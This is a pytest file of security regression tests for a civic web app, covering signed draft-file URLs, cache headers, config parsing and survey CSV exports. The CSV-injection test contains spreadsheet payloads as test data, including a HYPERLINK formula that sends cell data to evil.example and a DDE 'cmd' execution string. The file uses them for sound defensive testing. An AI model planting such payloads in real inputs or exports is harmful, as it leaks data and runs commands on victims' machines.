"""Attacks on the features merged in December (unsubscribe, editing, references, uploads,
surveys, consultations): each test is a defect found by an attacker, failing before its fix."""

from __future__ import annotations

import csv
import io
import json
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from app.settings import ConfigError, Settings
from tests.documents.stories import PDF, project_with_odile, replace, upload
from tests.polls.stories import town
from tests.surveys.stories import EXPORT, codes, full_answers, ok, opened_survey, submit

BY_REFERENCE = """query($s: String!, $r: String!) { territory(slug: $s) {
  questionByReference(reference: $r) { id }
  ideaByReference(reference: $r) { id }
} }"""


@pytest.mark.parametrize("reference", ["Q-2026-0001\u0000", "\ud800", "Q\u0000"])
async def test_an_odd_reference_is_no_internal_error(http: httpx.AsyncClient, reference: str) -> None:
    """A NUL (PostgreSQL refuses it in text) or a lone surrogate (no UTF-8 for it) as a
    reference is just no such reference: it was INTERNAL_SERVER_ERROR."""
    t = await town()
    body = json.dumps({"query": BY_REFERENCE, "variables": {"s": t.territory.slug, "r": reference}})
    response = await http.post("/graphql", content=body, headers={
        "Content-Type": "application/json", "Authorization": f"Bearer {t.alice.token}"})
    answer = response.json()
    assert "errors" not in answer, answer
    assert answer["data"]["territory"] == {"questionByReference": None, "ideaByReference": None}


async def test_a_draft_url_with_a_superscript_expiry_is_a_403(gql: Any, http: httpx.AsyncClient) -> None:
    """`"²".isdigit()` is True but int("²") raises: the signed-URL check crashed (a 500) on
    `?expires=²`; it is a URL that was not signed here, like any other."""
    place, odile, project_id = await project_with_odile(gql)
    draft = (await upload(http, odile.token, project_id, PDF, draft=True))["data"]["uploadDocument"]["document"]
    path = urlsplit(draft["url"]).path
    for expires in ("²", "9²", "①", "٩٩٩٩٩٩٩٩٩٩"):
        response = await http.get(path, params={"expires": expires, "signature": "abc"})
        assert response.status_code == 403, (expires, response.text)
        assert PDF not in response.content


async def test_a_survey_answer_is_no_formula_in_the_staff_csv(gql: Any) -> None:
    """CSV injection (CWE-1236): alice's text answer `=HYPERLINK(...)` reached odile's export
    as a cell a spreadsheet runs as a formula (it can send the sheet's other cells away).
    Text cells starting with = + - @ (or a tab or CR) are exported behind a quote; the JSON
    export and the results keep the answer as written."""
    t = await town()
    survey = await opened_survey(gql, t.odile.token, t.gid)
    sid = survey["id"]
    evil = ['=HYPERLINK("https://evil.example/?"&A2,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
    for token, text in zip((t.alice.token, t.bob.token, t.vera.token, t.mona.token), evil, strict=True):
        assert codes(await submit(gql, token, sid, full_answers(survey, 0, stop=text, extra=text))) == []
    exported = (await ok(gql, EXPORT, "exportSurveyResponses", {"input": {"surveyId": sid, "format": "CSV"}},
                         t.odile.token))["export"]
    rows = list(csv.reader(io.StringIO(exported["content"])))
    assert exported["responses"] == 4
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert sorted(row[2] for row in rows[1:]) == sorted("'" + text for text in evil)
    as_json = json.loads((await ok(gql, EXPORT, "exportSurveyResponses", {"input": {"surveyId": sid, "format": "JSON"}},
                                   t.odile.token))["export"]["content"])
    assert sorted(r[2] for r in as_json["responses"]) == sorted(evil)


async def test_a_public_file_is_not_kept_past_its_hiding(gql: Any, http: httpx.AsyncClient) -> None:
    """ADR 0020: making a document a draft (or hiding its project) stops its files at once.
    The public answer said `public, max-age=300`: a browser or a CDN went on serving the file
    for five minutes after it was withdrawn, without asking. It now says `no-cache` (keep it,
    but ask /files again before each reuse), and /files answers 403 once it is withdrawn."""
    place, odile, project_id = await project_with_odile(gql)
    document = (await upload(http, odile.token, project_id, PDF))["data"]["uploadDocument"]["document"]
    path = urlsplit(document["url"]).path
    served = await http.get(path)
    assert served.status_code == 200 and served.content == PDF
    directives = {d.strip() for d in served.headers["cache-control"].split(",")}
    assert "no-cache" in directives or "max-age=0" in directives, served.headers["cache-control"]
    # When odile makes it a draft, the next revalidation is refused
    made_draft = await replace(http, odile.token, document["id"], PDF, draft=True)
    assert made_draft["data"]["replaceDocument"]["userErrors"] == []
    assert (await http.get(path)).status_code == 403


@pytest.mark.parametrize("raw", ["²", "1024²", "٢٠٤٨"])
def test_an_upload_limit_in_other_digits_is_a_config_error(raw: str) -> None:
    """PARVIS_UPLOAD_MAX_BYTES="²" passed `isdigit()` and crashed int() at startup with a
    ValueError traceback instead of the ConfigError that names the variable."""
    with pytest.raises(ConfigError, match="PARVIS_UPLOAD_MAX_BYTES"):
        Settings.from_env({"PARVIS_UPLOAD_MAX_BYTES": raw})


async def test_a_draft_url_with_a_non_ascii_signature_is_a_403(gql: Any, http: httpx.AsyncClient) -> None:
    """hmac.compare_digest refuses a str with non-ASCII characters (TypeError): a signature
    of `é` on an unexpired URL of a draft was a 500; it is a signature that does not match."""
    place, odile, project_id = await project_with_odile(gql)
    draft = (await upload(http, odile.token, project_id, PDF, draft=True))["data"]["uploadDocument"]["document"]
    path = urlsplit(draft["url"]).path
    for signature in ("é", "x" * 42 + "é", "\u2028"):
        response = await http.get(path, params={"expires": "9999999999", "signature": signature})
        assert response.status_code == 403, (signature, response.text)
        assert PDF not in response.content
